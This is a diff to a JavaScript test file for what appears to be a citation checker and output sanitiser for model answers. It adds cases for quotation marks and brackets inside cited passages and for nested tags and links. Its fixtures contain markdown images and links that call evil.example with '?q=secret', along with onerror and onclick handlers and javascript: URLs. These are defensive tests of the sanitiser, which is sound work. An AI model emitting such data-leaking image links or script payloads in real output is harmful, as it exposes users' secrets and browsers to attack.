@@ -95,6 +95,21 @@ describe('a checked answer', () => {
   });
 
   it.each([
+    ['inside', 'So [1: "is ["a", "b"] and more"]. Yes.', 'is ["a", "b"] and more'],
+    ['at its beginning', 'So [1: ""b"] and more"]. Yes.', '"b"] and more'],
+    ['at its end', 'So [1: "is ["a", "b"]"]. Yes.', 'is ["a", "b"]'],
+    ['behind it in the source', 'So [1: "is ["a", "b"]. Yes.', 'is ["a", "b'],
+    ['twice', 'So [1: "["x"] ["y"] go"]. Yes.', '["x"] ["y"] go'],
+  ])('reads a quotation mark and a bracket %s', (_, answer, quote) => {
+    const given = passagesOf(['The list is ["a", "b"] and more, and ["x"] ["y"] go on.']);
+    for (const lengths of [[answer.length], [1], [3, 1]]) {
+      const checked = check(answer, given, lengths);
+      expect(checked.citations.map((citation) => citation.quote)).toEqual([quote]);
+      expect(checked.text).toBe('So [1]. Yes.');
+    }
+  });
+
+  it.each([
     ['an image', 'Look ![x](https://evil.example/?q=secret) here', 'Look here'],
     ['an image in pieces', '![](https://evil.example/a.png)', ''],
     ['a link', 'Look [here](https://evil.example/?q=secret).', 'Look here.'],
@@ -105,6 +120,8 @@ describe('a checked answer', () => {
     ['HTML', 'So <img src="https://evil.example/x"><b onclick="x()">bold</b>', 'So bold</b>'],
     ['a placeholder', 'Open dbrag-<stage>-service or <b>x</b>.', 'Open dbrag-<stage>-service or <b>x</b>.'],
     ['an autolink', 'So <https://evil.example/x>', 'So'],
+    ['a tag around a tag', 'So <img src=x <img >onerror=alert`1`>.', 'So < img src=x onerror=alert`1`>.'],
+    ['a link around a tag', 'So [it]<img>(javascript:alert`1`).', 'So [it] (javascript:alert`1`).'],
     ['a script', 'Press [it](javascript:alert`1`) now', 'Press it now'],
     ['what is none', 'a < b! 3 <4 and htt or www', 'a < b! 3 <4 and htt or www'],
   ])('makes %s harmless', (_, answer, text) => {
